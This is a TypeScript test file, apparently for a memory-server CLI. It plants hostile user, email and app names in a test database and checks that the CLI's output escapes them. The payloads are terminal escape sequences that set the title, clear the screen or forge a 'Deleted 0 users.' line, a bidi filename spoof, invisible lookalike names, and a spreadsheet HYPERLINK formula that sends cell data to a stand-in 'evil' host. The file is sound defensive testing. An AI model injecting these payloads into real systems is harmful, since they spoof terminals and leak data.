/**
 * Issue 14, end to end: hostile rows planted by SQL in a database shaped like
 * the server's (escape sequences, a C1 CSI, a bidi override, a spreadsheet
 * formula in names, emails and app names, as the server stores them from
 * client input), then every listing and detail command run by the built CLI
 * through a pipe and on a pseudo-terminal (tmux, raw bytes captured with
 * pipe-pane). No escape, C1 control or bidi control from the data may reach
 * either; the data shows escaped instead.
 */
import {execFileSync} from 'node:child_process'
import {randomUUID} from 'node:crypto'
import {existsSync, readFileSync} from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import postgres from 'postgres'
import {afterAll, beforeAll, describe, expect, it} from 'vitest'
import {createTestDatabase, type TestDatabase} from '../helpers/databases.js'
import {runBin} from '../helpers/run.js'
import {TmuxSession} from '../interactive/tmux.js'

const OSC8 = '\x1b]8;;http://evil.example/\x07click me\x1b]8;;\x07'
const TITLE = '\x1b]0;pwned\x07'
const CLEAR = '\x1b[2J'
const FORGE = '\x1b[1A\x1b[2KDeleted 0 users.'
const C1_CSI = '\u009b31mred'
const BIDI = 'gpj.\u202eexe'
const FORMULA = '=HYPERLINK("http://evil/?"&A1,"click")'
/** Looks like alice: a zero-width space; a name of BOM, Hangul filler and a tag character. */
const LOOKALIKE = 'alice\u200b'
const INVISIBLE_NAME = 'Al\ufeffice\u3164\u{e0041}'

/** What must never come out of the CLI raw: ESC, C1 CSI, the bidi controls, invisible characters. */
const FORBIDDEN =
  // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what this test looks for
  /[\x1b\u009b\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c\p{Default_Ignorable_Code_Point}]/u

const COMMANDS: string[][] = [
  ['users', 'list'],
  ['users', 'list', '--format', 'csv'],
  ['users', 'show', 'mallory'],
  ['users', 'show', 'oscar'],
  ['keys', 'list'],
  ['memories', 'count'],
  ['memories', 'count', '--by-app'],
  ['memories', 'count', 'mallory', '--by-app'],
]

describe('hostile rows planted by SQL never reach the terminal raw', () => {
  let td: TestDatabase
  let url: string

  beforeAll(async () => {
    td = await createTestDatabase('postgres', 'multiuser', {migrated: true})
    url = td.url!
    const sql = postgres(url, {max: 1, onnotice: () => {}})
    try {
      // As the server stores them: any name, email and app name its clients send.
      const plant = async (userId: string, name: string, email: string, app: string) => {
        const id = randomUUID()
        const appId = randomUUID()
        await sql`insert into users (id, user_id, name, email, created_at, updated_at, last_active)
                  values (${id}, ${userId}, ${name}, ${email}, now(), now(), now())`
        await sql`insert into api_keys (id, user_id, key_hash, created_at, is_active)
                  values (${randomUUID()}, ${id}, ${randomUUID().replaceAll('-', '')}, now(), true)`
        await sql`insert into apps (id, owner_id, name, is_active, created_at, updated_at)
                  values (${appId}, ${id}, 'default', true, now(), now())`
        await sql`insert into apps (id, owner_id, name, is_active, created_at, updated_at)
                  values (${randomUUID()}, ${id}, ${app}, true, now(), now())`
        await sql`insert into memories (id, user_id, app_id, content, state, created_at, updated_at)
                  values (${randomUUID()}, ${id}, ${appId}, ${`remember ${CLEAR}`}, 'active', now(), now())`
      }
      await plant('mallory', `${OSC8}${TITLE}`, `m${CLEAR}@example.com`, `claude${FORGE}`)
      await plant('oscar', FORMULA, 'o@example.com', `${C1_CSI}${BIDI}`)
      await plant('alice', 'Alice', 'alice@example.com', 'cursor')
      await plant(LOOKALIKE, INVISIBLE_NAME, 'a2@example.com', 'cur\u200dsor')
    } finally {
      await sql.end()
    }
  })
  afterAll(async () => td?.drop())

  // CSV written to a pipe or file is data, exact like JSON (an export must import back unchanged);
  // it is formula-safe (checked below) and escaped on a terminal (the pseudo-terminal run).
  const PIPED = COMMANDS.filter((argv) => !argv.includes('csv'))

  it.each(PIPED.map((argv) => [argv.join(' '), argv]))('through a pipe: %s', async (_name, argv) => {
    const r = await runBin(argv as string[], {env: {DATABASE_URL: url, OPENMEMORY_DATABASE_URL: undefined}})
    expect(r.exitCode, r.stderr).toBe(0)
    expect(r.stdout.length).toBeGreaterThan(0)
    expect(r.stdout).not.toMatch(FORBIDDEN)
    expect(r.stderr).not.toMatch(FORBIDDEN)
  })

  it('shows the data escaped, and CSV cells never start a formula', async () => {
    const env = {DATABASE_URL: url, OPENMEMORY_DATABASE_URL: undefined}
    const show = await runBin(['users', 'show', 'mallory'], {env})
    expect(show.stdout).toContain('\\x1b]8;;http://evil.example/')
    // alice and alice + U+200B never look the same; the escaped id is typed back to find it.
    const list = await runBin(['users', 'list'], {env})
    expect(list.stdout).toContain('alice\\u200b')
    expect(list.stdout).toContain('Al\\ufeffice\\u3164\\udb40\\udc41')
    const lookalike = await runBin(['users', 'show', 'alice\\u200b', '--json'], {env})
    expect(JSON.parse(lookalike.stdout).userId).toBe(LOOKALIKE)
    const csv = await runBin(['users', 'list', '--format', 'csv'], {env})
    expect(csv.stdout).toContain(`'${FORMULA.replaceAll('"', '""')}`)
    expect(csv.stdout).not.toMatch(/(^|,)=HYPERLINK/m)
    // JSON stays exact: the stored bytes come back unchanged.
    const json = await runBin(['users', 'show', 'mallory', '--json'], {env})
    expect(JSON.parse(json.stdout).name).toBe(`${OSC8}${TITLE}`)
  })

  it.skipIf(!hasTmux())('on a pseudo-terminal, every listing and detail command', async () => {
    for (const argv of COMMANDS) {
      const raw = path.join(os.tmpdir(), `om-pty-${randomUUID()}.out`)
      const t = new TmuxSession({DATABASE_URL: url, OPENMEMORY_DATABASE_URL: '', NO_COLOR: '1'}, argv, {
        rawOutput: raw,
      })
      try {
        await t.waitFor('EXIT=')
        expect(t.screen(), argv.join(' ')).toContain('EXIT=0')
        // What the CLI wrote to the terminal, byte for byte (the shell's own echo of EXIT= aside).
        const bytes = existsSync(raw) ? readFileSync(raw, 'utf8') : ''
        expect(bytes.length, argv.join(' ')).toBeGreaterThan(0)
        expect(bytes, argv.join(' ')).not.toMatch(FORBIDDEN)
      } finally {
        t.kill()
      }
    }
  })
})

function hasTmux(): boolean {
  try {
    execFileSync('tmux', ['-V'], {stdio: 'ignore'})
    return true
  } catch {
    return false
  }
}
